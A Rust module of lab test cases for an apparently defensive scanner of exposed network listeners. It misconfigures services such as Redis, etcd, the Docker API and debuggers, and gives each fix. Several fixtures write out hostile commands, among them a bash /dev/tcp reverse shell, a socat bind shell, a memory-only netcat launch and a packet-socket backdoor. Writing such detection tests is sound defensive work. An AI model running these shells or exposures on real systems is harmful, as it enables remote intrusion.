//! The programs, how each is set up badly, and in which way its rule's remedy is to be followed.

use super::unified_groups;
use crate::lab::Need::{self, Root, Tool};

/// Which end of the cable.
#[derive(Clone, Copy)]
pub(super) enum Side {
    Here,
    There,
}

/// What tells that a program has taken up its place.
#[derive(Clone, Copy)]
pub(super) enum Ready {
    Tcp(u16),
    Udp(u16),
    File(&'static str),
    /// Nothing of its own; the findings are asked for until they show it.
    Asked,
}

/// How the remedy is followed.
#[derive(Clone, Copy)]
pub(super) enum Fix {
    /// Its commands, which ask for this unit to be restarted; then the undo, which brings it back.
    Service(&'static str),
    /// Its commands, to the running program.
    Commands,
    /// Its commands; started again, the program finds that it may not.
    Refused,
    /// Its first command is the new command line, with this in the place of PROGRAM.
    Again(&'static str),
    /// Its commands, which ask for this unit to be ended; started all the same, it is back.
    Stopped(&'static str),
    /// Its commands, which ask for this unit to be restarted and change nothing else.
    Restarted(&'static str),
    /// It names this option, which stands in the new command line.
    Option { said: &'static str, start: &'static str },
}

pub(super) type Helper = (Side, &'static str, Ready);

#[derive(Clone, Copy)]
pub(super) struct Case {
    pub(super) name: &'static str,
    pub(super) rule: &'static str,
    pub(super) needs: &'static [Need],
    pub(super) severity: &'static str,
    /// Of this computer, on a network of 24 bits.
    pub(super) address: &'static str,
    /// Makes the configuration bad.
    pub(super) prepare: &'static str,
    /// Run before the program and through the whole case.
    pub(super) before: &'static [Helper],
    /// The program, as its unit starts it.
    pub(super) start: &'static str,
    pub(super) ready: Ready,
    /// Run after each start of the program.
    pub(super) after: &'static [Helper],
    pub(super) fix: Fix,
    /// What tells that the program is there after the fix, when that is something else than before.
    pub(super) fixed: &'static [Ready],
}

const LAN: Case = Case {
    name: "",
    rule: "",
    needs: &[Root],
    severity: "",
    address: "10.77.0.1",
    prepare: "",
    before: &[],
    start: "",
    ready: Ready::Asked,
    after: &[],
    fix: Fix::Commands,
    fixed: &[],
};

const REDIS: Case = Case {
    name: "redis_in_the_local_network",
    rule: "redis-reachable",
    needs: &[Root, Tool("redis-server")],
    severity: "high",
    prepare: "sed -i -E 's/^bind .*/bind 0.0.0.0/' /etc/redis/redis.conf",
    start: "redis-server /etc/redis/redis.conf --supervised no --daemonize no",
    ready: Ready::Tcp(6379),
    fix: Fix::Service("redis-server"),
    ..LAN
};

const UNIFIED_GROUPS: Need = Need::Kernel("unified control groups", || unified_groups().is_some());

const AS_USER: &str = "useradd --no-create-home --uid 4242 try";

pub(super) const ALL: &[Case] = &[
    REDIS,
    Case { name: "redis_on_the_internet", severity: "critical", address: "93.184.215.14", ..REDIS },
    Case {
        name: "memcached",
        rule: "memcached-reachable",
        needs: &[Root, Tool("memcached")],
        severity: "high",
        prepare: "sed -i -E 's/^-l .*/-l 0.0.0.0/' /etc/memcached.conf; echo '-U 11211' >> /etc/memcached.conf",
        start: "/usr/share/memcached/scripts/systemd-memcached-wrapper /etc/memcached.conf",
        ready: Ready::Tcp(11211),
        fix: Fix::Service("memcached"),
        ..LAN
    },
    Case {
        name: "mariadb",
        rule: "mysql-reachable",
        needs: &[Root, Tool("mariadbd")],
        severity: "medium",
        prepare: "printf '[mysqld]\\nbind-address = 0.0.0.0\\n' > /etc/mysql/mariadb.conf.d/60-bad.cnf
            mkdir -p /run/mysqld; chown mysql: /run/mysqld",
        start: "mariadbd --user=mysql",
        ready: Ready::Tcp(3306),
        fix: Fix::Service("mariadb"),
        ..LAN
    },
    Case {
        name: "postgresql",
        rule: "postgresql-reachable",
        needs: &[Root, Tool("pg_conftool"), Tool("pg_ctlcluster")],
        severity: "medium",
        prepare: "pg_conftool set listen_addresses '*'",
        start: "set -- $(pg_lsclusters -h); exec pg_ctlcluster $1 $2 start --foreground",
        ready: Ready::Tcp(5432),
        fix: Fix::Service("postgresql"),
        ..LAN
    },
    Case {
        name: "etcd",
        rule: "etcd-reachable",
        needs: &[Root, Tool("etcd")],
        severity: "critical",
        prepare: "printf 'ETCD_LISTEN_CLIENT_URLS=http://0.0.0.0:2379\\n\
            ETCD_ADVERTISE_CLIENT_URLS=http://10.77.0.1:2379\\n' >> /etc/default/etcd",
        start: "set -a; . /etc/default/etcd; exec etcd --data-dir /var/lib/etcd/try",
        ready: Ready::Tcp(2379),
        fix: Fix::Service("etcd"),
        ..LAN
    },
    Case {
        name: "mosquitto",
        rule: "mqtt-reachable",
        needs: &[Root, Tool("mosquitto")],
        severity: "low",
        prepare: "printf 'listener 1883\\nallow_anonymous true\\n' > /etc/mosquitto/conf.d/try.conf
            install -d -o mosquitto -g mosquitto /run/mosquitto /var/log/mosquitto",
        start: "mosquitto -c /etc/mosquitto/mosquitto.conf",
        ready: Ready::Tcp(1883),
        fix: Fix::Service("mosquitto"),
        ..LAN
    },
    Case {
        name: "vsftpd_as_shipped",
        rule: "ftp-server-reachable",
        needs: &[Root, Tool("vsftpd")],
        severity: "low",
        prepare: "mkdir -p /run/vsftpd/empty",
        start: "vsftpd /etc/vsftpd.conf",
        ready: Ready::Tcp(21),
        fix: Fix::Service("vsftpd"),
        ..LAN
    },
    Case {
        name: "telnet_in_inetd",
        rule: "clear-text-login-reachable",
        needs: &[Root, Tool("inetutils-inetd"), Tool("telnetd"), Tool("update-inetd")],
        severity: "high",
        prepare: "printf 'telnet\\tstream\\ttcp\\tnowait\\troot\\t/usr/sbin/telnetd\\ttelnetd\\n\
            time\\tstream\\ttcp\\tnowait\\troot\\tinternal\\n' >> /etc/inetd.conf",
        start: "inetutils-inetd -d",
        ready: Ready::Tcp(23),
        fix: Fix::Service("inetutils-inetd"),
        fixed: &[Ready::Tcp(37)],
        ..LAN
    },
    Case {
        name: "snmpd",
        rule: "snmp-reachable",
        needs: &[Root, Tool("snmpd")],
        severity: "low",
        prepare: "sed -i -E 's/^agentaddress .*/agentaddress udp:161/' /etc/snmp/snmpd.conf",
        start: "snmpd -LOw -u Debian-snmp -g Debian-snmp -I -smux,mteTrigger,mteTriggerConf -f",
        ready: Ready::Udp(161),
        fix: Fix::Service("snmpd"),
        ..LAN
    },
    Case {
        name: "tftpd_as_shipped",
        rule: "tftp-server-reachable",
        needs: &[Root, Tool("in.tftpd")],
        severity: "low",
        start: ". /etc/default/tftpd-hpa; exec in.tftpd --foreground --user \"$TFTP_USERNAME\" \
            --address \"$TFTP_ADDRESS\" $TFTP_OPTIONS \"$TFTP_DIRECTORY\"",
        ready: Ready::Udp(69),
        fix: Fix::Service("tftpd-hpa"),
        ..LAN
    },
    Case {
        name: "rsync_daemon",
        rule: "rsync-daemon-reachable",
        needs: &[Root, Tool("rsync")],
        severity: "medium",
        prepare: "printf '[files]\\npath = /srv\\n' > /etc/rsyncd.conf",
        start: "rsync --daemon --no-detach",
        ready: Ready::Tcp(873),
        fix: Fix::Service("rsync"),
        ..LAN
    },
    Case {
        name: "dnsmasq",
        rule: "open-resolver",
        needs: &[Root, Tool("dnsmasq")],
        severity: "info",
        start: "dnsmasq -k -7 /etc/dnsmasq.d,.dpkg-dist,.dpkg-old,.dpkg-new",
        ready: Ready::Udp(53),
        fix: Fix::Service("dnsmasq"),
        ..LAN
    },
    Case {
        name: "sshd_with_gateway_ports",
        rule: "ssh-forward-reachable",
        needs: &[Root, Tool("sshd"), Tool("ssh"), Tool("ssh-keygen")],
        severity: "medium",
        prepare: "mkdir -p /run/sshd; ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/try
            printf 'GatewayPorts yes\\nAuthorizedKeysFile /etc/ssh/try.pub\\nPermitRootLogin yes\\n' \
            > /etc/ssh/sshd_config.d/50-try.conf",
        start: "/usr/sbin/sshd -D",
        ready: Ready::Tcp(22),
        after: &[(
            Side::Here,
            "ssh -N -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i /etc/ssh/try \
             -R 9000:127.0.0.1:22 root@127.0.0.1",
            Ready::Tcp(9000),
        )],
        fix: Fix::Service("ssh"),
        ..LAN
    },
    Case {
        name: "x11vnc",
        rule: "vnc-reachable",
        needs: &[Root, Tool("x11vnc"), Tool("Xvfb")],
        severity: "high",
        before: &[(Side::Here, "Xvfb :7 -nolisten tcp", Ready::File("/tmp/.X11-unix/X7"))],
        start: "x11vnc -display :7 -forever -nopw -rfbport 5907",
        ready: Ready::Tcp(5907),
        fix: Fix::Option {
            said: "x11vnc -localhost",
            start: "x11vnc -localhost -display :7 -forever -nopw -rfbport 5907",
        },
        ..LAN
    },
    Case {
        name: "tigervnc",
        rule: "vnc-reachable",
        needs: &[Root, Tool("Xtigervnc")],
        severity: "high",
        start: "Xtigervnc :8 -rfbport 5908 -SecurityTypes None -localhost=0",
        ready: Ready::Tcp(5908),
        fix: Fix::Option {
            said: "Xtigervnc -localhost",
            start: "Xtigervnc -localhost :8 -rfbport 5908 -SecurityTypes None",
        },
        ..LAN
    },
    Case {
        name: "x_server_over_tcp",
        rule: "x11-over-tcp",
        needs: &[Root, Tool("Xvfb")],
        severity: "high",
        start: "Xvfb :1 -listen tcp",
        ready: Ready::Tcp(6001),
        fix: Fix::Again(""),
        fixed: &[Ready::File("/tmp/.X11-unix/X1")],
        ..LAN
    },
    Case {
        name: "gdbserver",
        rule: "native-debugger-open",
        needs: &[Root, Tool("gdbserver")],
        severity: "critical",
        start: "gdbserver 127.0.0.1:1234 /bin/sleep 600",
        ready: Ready::Tcp(1234),
        fix: Fix::Again("/bin/sleep 600"),
        fixed: &[Ready::Asked],
        ..LAN
    },
    Case {
        name: "node_inspector",
        rule: "node-inspector-open",
        needs: &[Root, Tool("node")],
        severity: "critical",
        start: "node --inspect=0.0.0.0:9229 -e 'setInterval(() => {}, 1000)'",
        ready: Ready::Tcp(9229),
        fix: Fix::Again("-e 'setInterval(() => {}, 1000)'"),
        ..LAN
    },
    Case {
        name: "java_debugger",
        rule: "java-debugger-open",
        needs: &[Root, Tool("java")],
        severity: "critical",
        start: "java -agentlib:jdwp=transport=dt_socket,server=y,suspend=y,address=*:5005 -version",
        ready: Ready::Tcp(5005),
        fix: Fix::Option {
            said: "address=127.0.0.1:5005",
            start: "java -agentlib:jdwp=transport=dt_socket,server=y,suspend=y,address=127.0.0.1:5005 -version",
        },
        ..LAN
    },
    Case {
        name: "debugpy",
        rule: "python-debugger-open",
        needs: &[Root, Tool("python3"), Need::File("/usr/lib/python3/dist-packages/debugpy")],
        severity: "critical",
        prepare: "printf 'import time\\ntime.sleep(600)\\n' > /opt/try.py",
        start: "python3 -m debugpy --listen 0.0.0.0:5678 /opt/try.py",
        ready: Ready::Tcp(5678),
        fix: Fix::Again("/opt/try.py"),
        ..LAN
    },
    Case {
        name: "python_serves_a_folder",
        rule: "folder-served-to-network",
        needs: &[Root, Tool("python3")],
        severity: "medium",
        start: "python3 -m http.server 8000",
        ready: Ready::Tcp(8000),
        fix: Fix::Again(""),
        ..LAN
    },
    Case {
        name: "root_on_a_high_port",
        rule: "root-serves-high-port",
        needs: &[Root, Tool("python3"), Tool("setpriv")],
        severity: "low",
        start: "python3 -m http.server 8000 --directory /srv",
        ready: Ready::Tcp(8000),
        fix: Fix::Again("python3 -m http.server 8000 --directory /srv"),
        ..LAN
    },
    Case {
        name: "user_on_a_low_port",
        rule: "user-serves-low-port",
        needs: &[Root, Tool("nc.openbsd"), Tool("setpriv"), Tool("sysctl")],
        severity: "medium",
        prepare: "sysctl -qw net.ipv4.ip_unprivileged_port_start=80",
        start: "setpriv --reuid=4242 --regid=4242 --clear-groups nc.openbsd -l -p 80",
        ready: Ready::Tcp(80),
        fix: Fix::Refused,
        ..LAN
    },
    Case {
        name: "reverse_shell",
        rule: "shell-on-socket",
        needs: &[Root, Tool("bash"), Tool("nc.openbsd")],
        severity: "critical",
        before: &[(Side::There, "nc.openbsd -l -p 4444", Ready::Tcp(4444))],
        start: "bash -c 'bash -i >& /dev/tcp/10.77.0.254/4444 0>&1'",
        ..LAN
    },
    Case {
        name: "shell_behind_socat",
        rule: "shell-on-socket",
        needs: &[Root, Tool("bash"), Tool("socat"), Tool("nc.openbsd")],
        severity: "critical",
        start: "socat TCP-LISTEN:4445,fork EXEC:bash",
        ready: Ready::Tcp(4445),
        after: &[(Side::There, "nc.openbsd 10.77.0.1 4445", Ready::Asked)],
        ..LAN
    },
    Case {
        name: "bind_shell",
        rule: "bind-shell",
        needs: &[Root, Tool("socat")],
        severity: "critical",
        start: "socat TCP-LISTEN:4445,fork EXEC:/bin/cat",
        ready: Ready::Tcp(4445),
        ..LAN
    },
    Case {
        name: "program_from_memory",
        rule: "memory-only-program",
        needs: &[Root, Tool("python3"), Tool("nc.openbsd")],
        severity: "critical",
        start: "python3 -c \"import os
fd = os.memfd_create('x')
os.write(fd, open('/usr/bin/nc.openbsd', 'rb').read())
os.execv('/proc/self/fd/%d' % fd, ['x', '-l', '-p', '4449'])\"",
        ready: Ready::Tcp(4449),
        ..LAN
    },
    Case {
        name: "deleted_program",
        rule: "deleted-program-listens",
        needs: &[Root, Tool("nc.openbsd")],
        severity: "high",
        prepare: "cp /usr/bin/nc.openbsd /opt/ncx",
        start: "/opt/ncx -l -p 4448",
        ready: Ready::Tcp(4448),
        after: &[(Side::Here, "rm /opt/ncx", Ready::Asked)],
        ..LAN
    },
    Case {
        name: "program_in_a_temporary_folder",
        rule: "listener-from-temporary-folder",
        needs: &[Root, Tool("nc.openbsd")],
        severity: "high",
        prepare: "cp /usr/bin/nc.openbsd /tmp/x",
        start: "/tmp/x -l -p 4450",
        ready: Ready::Tcp(4450),
        ..LAN
    },
    Case {
        name: "netcat_waits",
        rule: "netcat-listener",
        needs: &[Root, Tool("nc.openbsd")],
        severity: "medium",
        start: "nc.openbsd -l -p 4447",
        ready: Ready::Tcp(4447),
        fix: Fix::Option { said: "-s 127.0.0.1", start: "nc.openbsd -l -s 127.0.0.1 -p 4447" },
        ..LAN
    },
    Case {
        name: "unknown_program_on_a_database_port",
        rule: "postgresql-reachable",
        needs: &[Root, Tool("nc.openbsd")],
        severity: "low",
        start: "nc.openbsd -l -k -p 5432",
        ready: Ready::Tcp(5432),
        fix: Fix::Option { said: "127.0.0.1", start: "nc.openbsd -l -k -s 127.0.0.1 -p 5432" },
        ..LAN
    },
    Case {
        name: "client_and_server_at_once",
        rule: "client-and-server",
        needs: &[Root, Tool("python3"), Tool("nc.openbsd")],
        severity: "medium",
        before: &[(Side::There, "nc.openbsd -l -k -p 7071", Ready::Tcp(7071))],
        start: "python3 -c \"import socket, time
s = socket.create_server(('0.0.0.0', 7070))
c = socket.create_connection(('10.77.0.254', 7071))
time.sleep(600)\"",
        ready: Ready::Tcp(7070),
        fix: Fix::Option {
            said: "127.0.0.1",
            start: "python3 -c \"import socket, time
s = socket.create_server(('127.0.0.1', 7070))
c = socket.create_connection(('10.77.0.254', 7071))
time.sleep(600)\"",
        },
        ..LAN
    },
    Case {
        name: "relay",
        rule: "relay",
        needs: &[Root, Tool("socat"), Tool("nc.openbsd")],
        severity: "high",
        before: &[(Side::Here, "nc.openbsd -l -k -s 127.0.0.1 -p 8099", Ready::Tcp(8099))],
        start: "socat TCP-LISTEN:8081,fork TCP:127.0.0.1:8099",
        ready: Ready::Tcp(8081),
        after: &[(Side::There, "nc.openbsd 10.77.0.1 8081", Ready::Asked)],
        ..LAN
    },
    Case {
        name: "wildcard_for_local_clients_only",
        rule: "wildcard-without-need",
        needs: &[Root, Tool("nc.openbsd")],
        severity: "low",
        start: "nc.openbsd -l -k -p 8125",
        ready: Ready::Tcp(8125),
        after: &[(Side::Here, "nc.openbsd 127.0.0.1 8125", Ready::Asked)],
        fix: Fix::Option { said: "127.0.0.1", start: "nc.openbsd -l -k -s 127.0.0.1 -p 8125" },
        ..LAN
    },
    Case {
        name: "packet_socket_of_an_interpreter",
        rule: "unexpected-sniffer",
        needs: &[Root, Tool("python3"), Tool("ss")],
        severity: "high",
        start: "python3 -c \"import socket, time
s = socket.socket(17, 3, socket.htons(3))
time.sleep(600)\"",
        ..LAN
    },
    Case {
        name: "packet_socket_with_a_filter",
        rule: "passive-backdoor",
        needs: &[Root, Tool("python3"), Tool("ss")],
        severity: "critical",
        start: "python3 -c \"import ctypes, socket, struct, time
s = socket.socket(17, 3, socket.htons(3))
program = ctypes.create_string_buffer(struct.pack('HBBI', 6, 0, 0, 65535))
s.setsockopt(socket.SOL_SOCKET, 26, struct.pack('HP', 1, ctypes.addressof(program)))
time.sleep(600)\"",
        ..LAN
    },
    Case {
        name: "tcpdump_runs",
        rule: "capture-running",
        needs: &[Root, Tool("tcpdump")],
        severity: "low",
        start: "tcpdump -i lo -w /dev/null",
        ..LAN
    },
    Case {
        name: "raw_icmp_of_an_interpreter",
        rule: "unexpected-raw-icmp",
        needs: &[Root, Tool("python3")],
        severity: "medium",
        start: "python3 -c \"import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
time.sleep(600)\"",
        ..LAN
    },
    Case {
        name: "udp_port_stolen",
        rule: "udp-port-stolen",
        needs: &[Root, Tool("python3"), Tool("setpriv"), Tool("useradd")],
        severity: "high",
        prepare: AS_USER,
        before: &[(Side::Here, UDP_SERVER, Ready::Udp(5140))],
        start: UDP_THIEF,
        ..LAN
    },
    Case {
        name: "two_users_on_one_port",
        rule: "port-shared-between-users",
        needs: &[Root, Tool("nc.openbsd"), Tool("setpriv"), Tool("useradd")],
        severity: "medium",
        prepare: AS_USER,
        before: &[(Side::Here, "nc.openbsd -l -k -s 127.0.0.1 -p 9000", Ready::Tcp(9000))],
        start: "setpriv --reuid=4242 --regid=4242 --clear-groups nc.openbsd -6 -l -k -s ::1 -p 9000",
        ..LAN
    },
    Case {
        name: "two_programs_on_one_port",
        rule: "port-shared-by-programs",
        needs: &[Root, Tool("socat")],
        severity: "medium",
        prepare: "cp -L /usr/bin/socat /opt/other",
        before: &[(Side::Here, "socat TCP4-LISTEN:8443,reuseport,fork PIPE", Ready::Tcp(8443))],
        start: "/opt/other TCP4-LISTEN:8443,reuseport,fork PIPE",
        ..LAN
    },
    Case {
        name: "unix_socket_for_everybody",
        rule: "unix-socket-open-to-everybody",
        needs: &[Root, Tool("socat")],
        severity: "medium",
        start: "socat UNIX-LISTEN:/run/try.sock,mode=666,fork PIPE",
        ready: Ready::File("/run/try.sock"),
        ..LAN
    },
    Case {
        name: "abstract_socket_of_root",
        rule: "abstract-socket-of-root",
        needs: &[Root, Tool("socat")],
        severity: "medium",
        start: "socat ABSTRACT-LISTEN:demo,fork EXEC:/usr/bin/id",
        fix: Fix::Option {
            said: "UNIX-LISTEN:/run/NAME.sock,mode=660,fork",
            start: "socat UNIX-LISTEN:/run/demo.sock,mode=660,fork EXEC:/usr/bin/id",
        },
        fixed: &[Ready::File("/run/demo.sock")],
        ..LAN
    },
    // Debian has neither of the next two: stand-ins under their names, which read the settings that
    // the fix writes.
    Case {
        name: "mongodb",
        rule: "mongodb-reachable",
        needs: &[Root, Tool("socat")],
        severity: "high",
        prepare: "cp /usr/bin/socat /opt/mongod
            printf 'net:\\n  port: 27017\\n  bindIp: 0.0.0.0\\n' > /etc/mongod.conf",
        start: "at=$(sed -nE 's/^ +bindIp: //p' /etc/mongod.conf)
            exec /opt/mongod TCP4-LISTEN:27017,reuseaddr,fork,bind=$at PIPE",
        ready: Ready::Tcp(27017),
        fix: Fix::Service("mongod"),
        ..LAN
    },
    Case {
        name: "elasticsearch",
        rule: "elasticsearch-reachable",
        needs: &[Root, Tool("python3")],
        severity: "high",
        prepare: "cp $(readlink -f /usr/bin/python3) /opt/java; mkdir -p /etc/elasticsearch
            echo 'network.host: 0.0.0.0' > /etc/elasticsearch/elasticsearch.yml",
        start: "at=$(sed -n 's/^network.host: //p' /etc/elasticsearch/elasticsearch.yml)
            export PYTHONHOME=/usr
            exec /opt/java -c 'import http.server as h, sys
h.HTTPServer((sys.argv[1], 9200), h.SimpleHTTPRequestHandler).serve_forever()' \
            ${at:-127.0.0.1} -Des.path.conf=/etc/elasticsearch",
        ready: Ready::Tcp(9200),
        fix: Fix::Service("elasticsearch"),
        ..LAN
    },
    Case {
        name: "docker_api",
        rule: "docker-api-reachable",
        needs: &[Root, Tool("dockerd"), Tool("containerd")],
        severity: "critical",
        prepare:
            "mkdir -p /tmp/docker
            echo 'DOCKER_OPTS=\"-H unix:///tmp/docker/api.sock -H tcp://0.0.0.0:2375\"' > /etc/default/docker",
        start: "set -e; . /etc/default/docker
            exec dockerd $DOCKER_OPTS --data-root /tmp/docker/data --exec-root /tmp/docker/exec \
            --pidfile /tmp/docker/pid --bridge=none --iptables=false --storage-driver=vfs",
        ready: Ready::Tcp(2375),
        fix: Fix::Service("docker"),
        fixed: &[Ready::File("/tmp/docker/api.sock")],
        ..LAN
    },
    Case {
        name: "port_mapper",
        rule: "rpcbind-reachable",
        needs: &[Root, Tool("rpcbind")],
        severity: "low",
        prepare: "mkdir -p /run/rpcbind",
        start: "rpcbind -f -w",
        ready: Ready::Udp(111),
        fix: Fix::Stopped("--now rpcbind.socket rpcbind.service"),
        ..LAN
    },
    Case {
        name: "torrents",
        rule: "peer-to-peer-program",
        needs: &[Root, Tool("transmission-daemon")],
        severity: "info",
        start: "transmission-daemon -f -g /tmp/torrents --no-portmap --no-lpd",
        ready: Ready::Tcp(51413),
        fix: Fix::Stopped("--now transmission-daemon"),
        ..LAN
    },
    Case {
        name: "upgraded_and_not_restarted",
        rule: "replaced-program-listens",
        needs: &[Root, Tool("socat"), UNIFIED_GROUPS],
        severity: "info",
        prepare: "cp /usr/bin/socat /opt/served",
        start: "mkdir -p $GROUPS_HERE/system.slice/served.service
            echo $$ > $GROUPS_HERE/system.slice/served.service/cgroup.procs
            exec /opt/served TCP4-LISTEN:8443,reuseaddr,fork PIPE",
        ready: Ready::Tcp(8443),
        // As dpkg does it, and once.
        after: &[(
            Side::Here,
            "test -e /opt/upgraded || { cp /usr/bin/socat /opt/served.new; mv /opt/served.new /opt/served; }
            touch /opt/upgraded; exec sleep 600",
            Ready::File("/opt/upgraded"),
        )],
        fix: Fix::Restarted("served.service"),
        ..LAN
    },
    // A stand-in: only the name, the mode and the user of the file decide.
    Case {
        name: "engine_socket_for_everybody",
        rule: "engine-socket-open",
        needs: &[Root, Tool("socat")],
        severity: "critical",
        start: "socat UNIX-LISTEN:/run/docker.sock,mode=666,fork PIPE",
        ready: Ready::File("/run/docker.sock"),
        ..LAN
    },
    Case {
        name: "engine_socket_on_a_port",
        rule: "engine-socket-bridged",
        needs: &[Root, Tool("socat")],
        severity: "critical",
        start: "socat TCP-LISTEN:2375,fork UNIX-CONNECT:/run/docker.sock",
        ready: Ready::Tcp(2375),
        ..LAN
    },
];

pub(super) const STOCK_NEEDS: &[Need] = &[
    Root,
    Tool("sshd"),
    Tool("redis-server"),
    Tool("memcached"),
    Tool("mosquitto"),
    Tool("dbus-daemon"),
    Tool("Xvfb"),
    Tool("ping"),
    Tool("busybox"),
    Tool("ssh-agent"),
    Tool("avahi-daemon"),
];

pub(super) const STOCK_PREPARE: &str = "mkdir -p /run/sshd
    install -d -o messagebus /run/dbus
    install -d -o mosquitto -g mosquitto /run/mosquitto /var/log/mosquitto";

/// A login server, caches, a broker, the message bus, mDNS, a display, ping, a client of DHCP.
pub(super) const STOCK: &[Helper] = &[
    (Side::Here, "/usr/sbin/sshd -D", Ready::Tcp(22)),
    (Side::Here, "redis-server /etc/redis/redis.conf --supervised no --daemonize no", Ready::Tcp(6379)),
    (
        Side::Here,
        "/usr/share/memcached/scripts/systemd-memcached-wrapper /etc/memcached.conf",
        Ready::Tcp(11211),
    ),
    (Side::Here, "mosquitto -c /etc/mosquitto/mosquitto.conf", Ready::Tcp(1883)),
    (Side::Here, "dbus-daemon --system --nofork --nopidfile", Ready::File("/run/dbus/system_bus_socket")),
    (Side::Here, "avahi-daemon", Ready::Udp(5353)),
    (Side::Here, "Xvfb :7", Ready::File("/tmp/.X11-unix/X7")),
    (Side::Here, "ping 10.77.0.254", Ready::Asked),
    (Side::Here, "busybox udhcpc -f -i eth0 -s /bin/true", Ready::Asked),
    (Side::Here, "ssh-agent -D -a /tmp/agent.sock", Ready::File("/tmp/agent.sock")),
];

const UDP_SERVER: &str = "python3 -c \"import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', 5140))
time.sleep(600)\"";

const UDP_THIEF: &str = "setpriv --reuid=4242 --regid=4242 --clear-groups python3 -c \"import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', 5140))
time.sleep(600)\"";
